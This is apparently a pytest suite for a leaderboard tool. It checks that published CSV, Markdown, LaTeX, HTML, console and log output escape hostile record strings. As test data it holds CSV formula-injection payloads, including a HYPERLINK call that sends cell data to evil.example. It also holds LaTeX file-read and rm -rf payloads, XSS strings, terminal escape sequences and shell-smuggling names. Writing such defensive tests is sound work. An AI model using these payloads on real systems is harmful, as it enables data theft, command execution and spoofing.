"""Fault suite: published and printed output that a
hostile record cannot turn against its reader (spreadsheet formulas, broken
Markdown rows, live LaTeX, HTML injection, terminal escape sequences)."""

from __future__ import annotations

import csv
import io
import re
import shlex
from html.parser import HTMLParser

import pytest
from markdown_it import MarkdownIt
from rich.console import Console

from diffzoo.leaderboard.layouts.paper import build_summary
from diffzoo.leaderboard.render.console import case_tables, summary_console
from diffzoo.leaderboard.render.markdown import summary_markdown
from diffzoo.leaderboard.render.site import OVERVIEW_JS
from diffzoo.leaderboard.render.text import publish
from diffzoo.leaderboard.versions import Selection

from helpers.records import make_record, resealed

pytestmark = pytest.mark.isolated_cache  # fault tests start from an empty cache

ESC = "\x1b]0;pwned\x07\x1b[2J\x1b[31m"  # set the window title, clear the screen, turn red
ESC_SHOWN = "\\x1b]0;pwned\\x07\\x1b[2J\\x1b[31m"
CONTROL = {chr(c) for c in (*range(0x20), 0x7f, *range(0x80, 0xa0))} | set("\u2028\u2029\u202e")


def published(tmp_path, fmt: str, records, label: str = "work") -> str:
    return publish(Selection(label, list(records)), fmt, tmp_path / fmt).read_text(encoding="utf-8")


def console_text(renderables) -> str:
    """What a plain (no colour) console prints: every ESC in it came from the data."""
    console = Console(file=io.StringIO(), width=400, color_system=None, force_terminal=False)
    for r in renderables:
        console.print(r)
    return console.file.getvalue()


def markdown_tokens(text: str):
    return MarkdownIt("commonmark").enable(["table", "strikethrough"]).parse(text)


def rendered(cell) -> str:
    """The text a Markdown viewer shows for an inline token."""
    return "".join(c.content for c in cell.children)


def table_rows(tokens) -> list[list[list]]:
    """Per Markdown table, its body rows, each a list of cells (inline tokens)."""
    tables, row = [], None
    for tok in tokens:
        if tok.type == "tbody_open":
            tables.append([])
        elif tok.type == "tr_open" and tables:
            row = []
        elif tok.type == "inline" and row is not None:
            row.append(tok)
        elif tok.type == "tr_close" and row is not None:
            tables[-1].append(row) if tables else None
            row = None
    return tables


# -- CSV ----------------------------------------------------------------------------------------------------
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd", "\t=1+1", "\r=1+1", "   =1+1", " \t@SUM(A1)", "\uff1d1+1"]
CSV_TEXT = ("version", "suite", "suite_version", "case", "dataset", "detector", "metric", "checkpoint_sha256",
            "git", "date", "record_id")


def test_csv_formula_prefixes_are_neutralised_also_after_spaces_tab_and_cr(tmp_path):
    records = [make_record(name, dataset=" =dataset()", case="@case") for name in FORMULAS]
    records.append(make_record("plain-det", task="image", case="image",
                               metrics={"img_Acc": 0.8, "img_AP": 0.85, "delta_img_Acc": -0.05}))
    rows = list(csv.DictReader(io.StringIO(published(tmp_path, "csv", records, label="+v1"))))
    for row in rows:
        for name in CSV_TEXT:
            first = row[name].lstrip(" ")[:1]
            assert first not in ("=", "+", "-", "@", "\t", "\r", "\uff1d"), (name, row[name])
    shown = {r["detector"] for r in rows}
    assert shown >= {"'" + n.replace("\t", "\\t").replace("\r", "\\r") for n in FORMULAS}
    assert "plain-det" in shown and {r["version"] for r in rows} == {"'+v1"}
    delta = next(r for r in rows if r["metric"] == "delta_img_Acc")
    assert delta["value"] == "-0.05" and float(delta["value"]) == -0.05  # diffzoo's own number stays a number


def test_csv_line_breaks_inside_fields_keep_one_row_for_readers_and_line_splitting(tmp_path):
    names = ["crlf\r\nrow", "lf\nrow", "cr\rrow", "sep\u2028row", "vt\x0bff\x0crow", "nel\x85row"]
    records = [make_record(n, dataset="data\r\nset") for n in names]
    text = published(tmp_path, "csv", records)
    parsed = list(csv.reader(io.StringIO(text)))
    assert len(parsed) == 1 + 7 * len(names)  # header + one row per detector and binary metric
    assert len(text.splitlines()) == len(parsed) == len(text.split("\n")) - 1
    assert all(len(row) == len(parsed[0]) for row in parsed)
    detectors = {row[parsed[0].index("detector")] for row in parsed[1:]}
    assert "crlf\\r\\nrow" in detectors and "sep\\u2028row" in detectors


# -- Markdown ------------------------------------------------------------------------------------------------
def test_markdown_table_keeps_one_row_and_its_columns_with_pipes_and_line_breaks(tmp_path):
    names = ["x | y", "crlf\r\n| a | b |", "cr\r| c |", "lf\n| d |", "back\\|slash", "tab\t|"]
    records = [make_record(n, dataset="data\r| set |") for n in names]
    tokens = markdown_tokens(published(tmp_path, "md", records))
    tables = table_rows(tokens)
    assert len(tables) == 1 and len(tables[0]) == len(names)
    header = sum(1 for t in tokens if t.type == "th_open")
    assert all(len(row) == header for row in tables[0])
    assert {rendered(row[1]) for row in tables[0]} == {
        "x | y", "crlf\\r\\n| a | b |", "cr\\r| c |", "lf\\n| d |", "back\\|slash", "tab\\t|"}
    headings = [t for t in tokens if t.type == "heading_open"]
    assert len(headings) == 2  # the page title and the one table's title: no heading from the dataset name


def test_markdown_leading_hash_and_list_markers_in_names_stay_text():
    names = ["# pwned", "## also", "- nested", "1. ordered", "  # indented", "= setext"]
    summary = build_summary([make_record(n) for n in names])
    tokens = markdown_tokens(summary_markdown(summary, title="# title", notes=["# note", "2) list"]))
    assert not [t for t in tokens if t.type == "heading_open" and t.level > 0]  # no heading inside a list item
    assert not [t for t in tokens if t.type == "ordered_list_open"]
    assert not [t for t in tokens if t.type == "bullet_list_open" and t.level > 0]  # no nested list
    assert [t.tag for t in tokens if t.type == "heading_open"][:2] == ["h1", "h2"]
    items = [t.content for t in tokens if t.type == "inline" and t.level == 3]  # list-item paragraphs
    assert any(c.startswith("\\# pwned: thresholds") for c in items) and "\\# note" in items


def test_markdown_backslash_backtick_html_and_emphasis_in_names_stay_literal(tmp_path):
    names = ["a\\`code | x`", "</td><b>bold</b>", "*em* __strong__", "[link](http://evil.example)",
             "~~strike~~", "<http://evil.example>", "&lt;entity&gt;"]
    tokens = markdown_tokens(published(tmp_path, "md", [make_record(n) for n in names]))
    rows = table_rows(tokens)[0]
    assert len(rows) == len(names)
    for row in rows:
        assert {c.type for c in row[1].children} == {"text"}, row[1].content
    assert {rendered(row[1]) for row in rows} == set(names)


def test_markdown_names_differing_only_in_outer_spaces_are_told_apart(tmp_path):
    """Markdown drops a cell's or heading's outer spaces: " a", "a" and "a " were three rows all shown `a`."""
    rows = table_rows(markdown_tokens(published(tmp_path, "md", [make_record(n) for n in (" a", "a", "a ")])))[0]
    assert sorted(rendered(row[1]) for row in rows) == ['" a"', '"a "', "a"]


def test_html_and_latex_names_differing_only_in_outer_spaces_are_told_apart(tmp_path):
    """An HTML or LaTeX table cell drops outer spaces too: the site and the .tex showed " a", "a"
    and "a " as three rows named `a` (each linking its own page), and three detector pages titled `a`."""
    records = [make_record(n) for n in (" a", "a", "a ")]
    publish(Selection("work", records), "html", tmp_path / "site")
    index = (tmp_path / "site" / "index.html").read_text(encoding="utf-8")
    cells = re.findall(r'<td class="detector"><a href="detectors/[\w.-]+\.html"><bdi>(.*?)</bdi></a></td>', index)
    assert sorted(cells) == sorted(["&quot; a&quot;", "&quot;a &quot;", "a"] * 2)  # the overview, the case table
    heads = [re.search(r'<h1 class="detector-name"><bdi>(.*?)</bdi></h1>', p.read_text(encoding="utf-8"))[1]
             for p in (tmp_path / "site" / "detectors").glob("*.html")]
    assert sorted(heads) == ["&quot; a&quot;", "&quot;a &quot;", "a"]
    rows = [line.split(" & ")[1] for line in published(tmp_path, "latex", records).splitlines() if line[:4] == "1 & "]
    assert sorted(rows) == [r"\textquotedbl{} a\textquotedbl{}", r"\textquotedbl{}a \textquotedbl{}", "a"]


def test_a_name_mixing_latin_and_cyrillic_letters_is_told_from_the_latin_name(tmp_path):
    """``dеt`` (its ``е`` Cyrillic) and ``det``, and a stored ``mu\u0308ller`` and ``müller``, were two
    rows that read alike in Markdown, LaTeX and HTML, and a metric ``mІoU`` a column headed as mIoU; a
    name all in one script (``müller``, ``αβ``) is shown as written."""
    names = ("det", "d\u0435t", "m\xfcller", "\u03b1\u03b2")
    records = [make_record(n) for n in names]
    records.append(resealed(make_record("x"), lambda d: d["detector"].update(name="mu\u0308ller")))
    records.append(make_record("y", metrics={"mIoU": 0.5, "m\u0406oU": 0.99}))  # a column reading as mIoU
    rows = table_rows(markdown_tokens(published(tmp_path, "md", records)))[0]
    shown = ["det", "d\\u0435t", "m\xfcller", "\u03b1\u03b2", "mu\\u0308ller", "y"]
    assert sorted(rendered(row[1]) for row in rows) == sorted(shown)
    tex = [line.split(" & ")[1] for line in published(tmp_path, "latex", records).splitlines() if line[:4] == "1 & "]
    assert sorted(tex) == sorted(["det", r"d\textbackslash{}u0435t", "m\xfcller", "\u03b1\u03b2",
                                  r"mu\textbackslash{}u0308ller"])  # y ranks lower
    publish(Selection("work", records), "html", tmp_path / "site")
    heads = [re.search(r'<h1 class="detector-name"><bdi>(.*?)</bdi></h1>', p.read_text(encoding="utf-8"))[1]
             for p in (tmp_path / "site" / "detectors").glob("*.html")]
    assert sorted(heads) == sorted(shown)
    index = (tmp_path / "site" / "index.html").read_text(encoding="utf-8")
    assert "<bdi>m\\u0406oU</bdi>" in index and ">m\u0406oU" not in index  # the header of every case table



def test_the_site_notes_the_latex_notes_and_the_console_show_a_lookalike_name_as_the_tables_do(tmp_path, capsys):
    """A note naming ``dеt`` (its ``е`` Cyrillic) on the site and in the .tex, ``leaderboard show``,
    ``list`` and ``diff``, and a run's tables wrote it as written, read as ``det``: Markdown and every table showed ``d\\u0435t``."""
    from diffzoo.leaderboard.diff import diff, diff_console
    from diffzoo.leaderboard.store import RecordStore

    from helpers.cli import cli

    records = [make_record("d\u0435t"), make_record("x", case="semantic", task="semantic")]  # a note on dеt's row
    publish(Selection("work", records), "html", tmp_path / "site")
    index = (tmp_path / "site" / "index.html").read_text(encoding="utf-8")
    notes = re.findall(r'<ol class="notes">(.*?)</ol>', index, re.S)[0]
    assert "d\\u0435t has no standard record" in notes and "d\u0435t" not in notes
    published(tmp_path, "latex", records)
    assert r"d\textbackslash{}u0435t has no standard record" in (tmp_path / "latex" / "overview.tex").read_text("utf-8")
    store = RecordStore(tmp_path / "store")
    store.add(records[0])
    for args in (("show", records[0].id), ("list",)):
        code, out, _ = cli(capsys, "leaderboard", *args, "--store", str(tmp_path / "store"))
        assert code == 0 and "d\\u0435t" in out and "d\u0435t" not in out
    run_tables = console_text(case_tables(records[:1]))  # the tables a run prints
    assert "d\\u0435t" in run_tables and "d\u0435t" not in run_tables
    moved = diff_console(diff(Selection("a", records[:1]), Selection("b", [make_record("d\u0435t", metrics={})])))
    assert "d\\u0435t" in console_text(moved) and "d\u0435t" not in console_text(moved)  # `leaderboard diff`


def test_a_table_title_naming_a_lookalike_suite_or_dataset_is_shown_as_markdown_and_the_site_show_it(tmp_path):
    """A suite ``stаndard`` (its ``а`` Cyrillic) titled its table as written in `leaderboard diff`, a run's
    tables and the LaTeX captions and header, read as ``standard``; Markdown and the site showed ``st\\u0430ndard``."""
    from diffzoo.leaderboard.diff import diff, diff_console

    records = [make_record(suite="st\u0430ndard", dataset="m\u0456ni")]
    for text in (console_text(diff_console(diff(Selection("a", records), Selection("b", [])))),
                 console_text(case_tables(records)), published(tmp_path, "latex", records)):
        assert "st\\u0430ndard" in text.replace(r"\textbackslash{}", "\\") and "st\u0430ndard" not in text, text
        assert "m\\u0456ni" in text.replace(r"\textbackslash{}", "\\") and "m\u0456ni" not in text, text


def test_markdown_headings_keep_a_trailing_hash_of_a_name(tmp_path):
    """A heading ending in `` #`` or `` ##`` ends with a closing sequence Markdown drops: the table of
    dataset ``mini #`` was titled as the one of ``mini``."""
    tokens = markdown_tokens(published(tmp_path, "md", [make_record("a", dataset=d, fingerprint=f"fp{len(d)}")
                                                         for d in ("mini #", "mini ##")]))
    titles = [rendered(tokens[i + 1]) for i, t in enumerate(tokens) if t.type == "heading_open" and t.tag == "h2"]
    assert titles == ["standard v1 / binary on mini #", "standard v1 / binary on mini ##"]

# -- LaTeX ---------------------------------------------------------------------------------------------------
def test_latex_escapes_specials_line_breaks_and_control_characters(tmp_path):
    name = "\\input{/etc/passwd} & $x^2$ #1 _a ~b %c"
    records = [make_record(name), make_record("[3pt] row\x1b[2J"), make_record("*star"),
               make_record("x", dataset="mini\n\\immediate\\write18{rm -rf ~}\n\nLIVE"),
               make_record("``tick`` b", dataset="mini`s")]
    tex = published(tmp_path, "latex", records)
    assert not CONTROL & (set(tex) - {"\n"})
    header = tex.split("\\begin{table}")[0].strip().splitlines()
    assert all(line.startswith("%") for line in header), header  # a line break cannot end a comment
    assert ("\\textbackslash{}input\\{/etc/passwd\\} \\& \\$x\\textasciicircum{}2\\$ \\#1 \\_a "
            "\\textasciitilde{}b \\%c &") in tex
    assert "{[}3pt{]} row\\textbackslash{}x1b{[}2J &" in tex and "{*}star &" in tex
    # a backtick is typeset as itself, never as an opening quote (two: an opening double quote)
    assert "\\textasciigrave{}\\textasciigrave{}tick\\textasciigrave{}\\textasciigrave{} b &" in tex
    assert "mini\\textasciigrave{}s" in tex and "`" not in tex
    assert not [line for line in tex.splitlines() if line.startswith(("[", "*"))]  # no optional argument of \\
    captions = [line for line in tex.splitlines() if line.startswith("\\caption{")]
    assert len(captions) == 3 and all(c.endswith("}") for c in captions)  # each caption on one line


def test_latex_typesets_dashes_quotes_and_commas_in_names_as_typed(tmp_path):
    """No ligature or font-encoding slot turns a name into other characters: ``--``/``---`` were en and
    em dashes, ``'``/``''`` closing quotes, ``"`` a closing double quote (OT1), ``,,`` a low quote (T1)."""
    tex = published(tmp_path, "latex", [make_record("a--b---c 'x' ''y'' \"z\" ,,w", dataset="it's-a--set")])
    assert ("a-\\/-b-\\/-\\/-c \\textquotesingle{}x\\textquotesingle{} \\textquotesingle{}\\textquotesingle{}y"
            "\\textquotesingle{}\\textquotesingle{} \\textquotedbl{}z\\textquotedbl{} ,\\/,w &") in tex
    assert "it\\textquotesingle{}s-a-\\/-set" in tex
    assert not re.search(r"--|,,|['\"<>|]", "\n".join(line for line in tex.splitlines() if not line.startswith("%")))



def test_latex_labels_of_tables_whose_case_names_differ_in_punctuation_are_distinct(tmp_path):
    """Cases ``x y`` and ``x|y`` make one slug: each table keeps a ``\\label`` of its own, so a
    ``\\ref`` finds the table it names and LaTeX warns of no multiply-defined label."""
    tex = published(tmp_path, "latex", [make_record("a", case=case) for case in ("x y", "x|y")])
    assert [line for line in tex.splitlines() if line.startswith("\\label")] == [
        "\\label{tab:standard-v1-x-y-mini-fp0001-m2-hstandar}", "\\label{tab:standard-v1-x-y-mini-fp0001-m2-hstandar-2}"]


def test_a_latex_label_holds_the_slug_as_it_is_never_an_escaped_underscore(tmp_path):
    """``\\label{tab:my\\_data}`` breaks LaTeX's second run: ``\\_`` is a robust command, which
    cannot stand in the ``\\csname`` a label becomes ("Missing \\endcsname inserted")."""
    tex = published(tmp_path, "latex", [make_record("a", dataset="my_data")])
    assert [line for line in tex.splitlines() if line.startswith("\\label")] == [
        "\\label{tab:standard-v1-binary-my_data-fp0001-m2-hstandar}"]


def test_a_run_command_a_note_names_quotes_the_names_it_takes_from_records():
    """A detector ``x; touch pwned`` and a dataset ``mini & co`` pasted from a note into a shell
    stay one argument each: unquoted they ran ``touch pwned`` and sent the run to the background."""
    from diffzoo.leaderboard.layouts.paper import build_report

    notes = {n.text for s in build_report([make_record("x; touch pwned", dataset="mini & co")]) for t in s.tables
             for n in t.notes}
    said = "no standard record of this case: diffzoo run --detector 'x; touch pwned' --suite standard --dataset 'mini & co'"
    assert said in notes
    assert shlex.split(said.partition(": ")[2])[3::4] == ["x; touch pwned", "mini & co"]

# -- HTML ----------------------------------------------------------------------------------------------------
class _Page(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags: list[tuple[str, dict]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.text.append(data)


def test_html_site_keeps_hostile_strings_as_text_and_shows_control_characters(tmp_path):
    names = ['"><img src=x onerror=alert(1)>', "' onmouseover='alert(1)' x='", "rtl\u202etxt.exe", "esc" + ESC,
             "nul\x00byte"]
    records = [make_record(n, dataset="ds</title><script>alert(1)</script>") for n in names]
    publish(Selection("v<1>", records), "html", tmp_path / "site")
    pages = sorted((tmp_path / "site").rglob("*.html"))
    assert len(pages) == 1 + len(names)
    for page in pages:
        raw = page.read_text(encoding="utf-8")
        assert not CONTROL & (set(raw) - {"\n"}), page  # no raw ESC, NUL or bidi override in the page
        p = _Page()
        p.feed(raw)
        assert not [t for t, _ in p.tags if t == "img"], page
        # the one script is the overview's constant code: a record's "<script>" stays text
        assert re.findall(r"<script>(.*?)</script>", raw, re.S) in ([], [OVERVIEW_JS]), page
        assert not [a for _, attrs in p.tags for a in attrs if a.startswith("on") or a == "x"], page
    index = _Page()
    index.feed((tmp_path / "site" / "index.html").read_text(encoding="utf-8"))
    shown = {a["data-detector"] for t, a in index.tags if t == "tr" and "data-rank" in a}
    assert shown == {'"><img src=x onerror=alert(1)>', "' onmouseover='alert(1)' x='", "rtl\\u202etxt.exe",
                     "esc" + ESC_SHOWN, "nul\\x00byte"}
    assert "ds</title><script>alert(1)</script>" in "".join(index.text)


# -- terminal ------------------------------------------------------------------------------------------------
def test_summary_console_shows_escape_sequences_in_record_strings_escaped():
    records = [make_record("det" + ESC, threshold_policy={"pixel": "fixed" + ESC}),
               make_record("other", dataset="mini" + ESC)]
    out = console_text(summary_console(build_summary(records)))
    assert "\x1b" not in out and "\x07" not in out
    assert "det" + ESC_SHOWN in out and "fixed" + ESC_SHOWN in out and "mini" + ESC_SHOWN in out


def test_run_console_tables_show_escape_sequences_in_record_strings_escaped():
    records = [make_record("det" + ESC, case="bin\rary" + ESC), make_record("b", dataset="mini\x9b31m",
                                                                              baselines={"all\x1b[5m": {"mIoU": 0.1}})]
    out = console_text(case_tables(records))
    assert "\x1b" not in out and "\x9b" not in out and "\r" not in out
    assert "det" + ESC_SHOWN in out and "bin\\rary" + ESC_SHOWN in out and "mini\\x9b31m" in out
    assert "all\\x1b[5m (baseline)" in out


def test_console_tables_print_markup_and_emoji_codes_in_names_literally():
    name = "[bold red]x[/] :warning: :cross_mark: \\[y]"
    records = [make_record(name, dataset=":skull: [link=http://evil.example]ds[/link]")]
    for out in (console_text(case_tables(records)), console_text(summary_console(build_summary(records)))):
        assert name in out and ":skull: [link=http://evil.example]ds[/link]" in out
        assert "\u26a0" not in out and "\u274c" not in out


def test_leaderboard_diff_console_shows_record_strings_escaped_and_literal():
    from diffzoo.leaderboard.diff import diff, diff_console

    name = "det" + ESC + "[blink]:warning:"
    a = Selection("v1" + ESC, [make_record(name, metrics={"mIoU": 0.5, "aAcc": 0.9})])
    b = Selection("v2", [make_record(name, metrics={"mIoU": 0.55, "aAcc": 0.9}),
                         make_record("new", dataset="d\x1b[2J")])
    out = console_text(diff_console(diff(a, b)))
    assert "\x1b" not in out and "\u26a0" not in out
    assert "det" + ESC_SHOWN + "[blink]:warning:" in out and "v1" + ESC_SHOWN in out
    assert "+5.0" in out and "table added standard v1 / binary on d\\x1b[2J" in out


# -- log lines ----------------------------------------------------------------------------
HOSTILE_NAMES = ["esc" + ESC, "rtl\u202etxt.png", "zero\u200bwidth.png", "two\nlines.png"]


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_every_log_line_shows_names_as_their_visible_characters(name):
    """The CLI formats every log record (a skipped sample, a skipped image, a plugin's warning)
    with the escaping error lines get: one line, no control or invisible character."""
    import logging

    from diffzoo.cli import VisibleFormatter
    from diffzoo.leaderboard.render.escape import printable

    record = logging.LogRecord("diffzoo.harness.run.evaluate", logging.WARNING, __file__, 1,
                               "skipping corrupt sample: %s (%s)", (name, "truncated"), None)
    line = VisibleFormatter("%(levelname)s %(name)s: %(message)s").format(record)
    assert line == f"WARNING diffzoo.harness.run.evaluate: skipping corrupt sample: {printable(name)} (truncated)"
    assert "\n" not in line and not set(line) & (CONTROL | {"\u200b"})


def test_a_real_cli_process_writes_its_log_lines_escaped():
    """In a process started as the CLI starts (its logging configured by ``diffzoo.cli``), a
    warning carrying every hostile name reaches stderr as one visible line per warning."""
    import subprocess
    import sys

    script = ("import logging, sys; from diffzoo.cli import configure_logging; configure_logging(False); "
              "[logging.getLogger('diffzoo.harness.run.evaluate').warning('skipping corrupt sample: %s', n) "
              "for n in sys.argv[1:]]")
    done = subprocess.run([sys.executable, "-c", script, *HOSTILE_NAMES], capture_output=True, text=True)
    assert done.returncode == 0, done.stderr
    lines = done.stderr.splitlines()
    assert len(lines) == len(HOSTILE_NAMES) and all(line.startswith("WARNING ") for line in lines)
    assert not set(done.stderr) & ((CONTROL - {"\n"}) | {"\u200b"})
    assert ESC_SHOWN in lines[0] and "rtl\\u202etxt.png" in lines[1] and "two\\nlines.png" in lines[3]
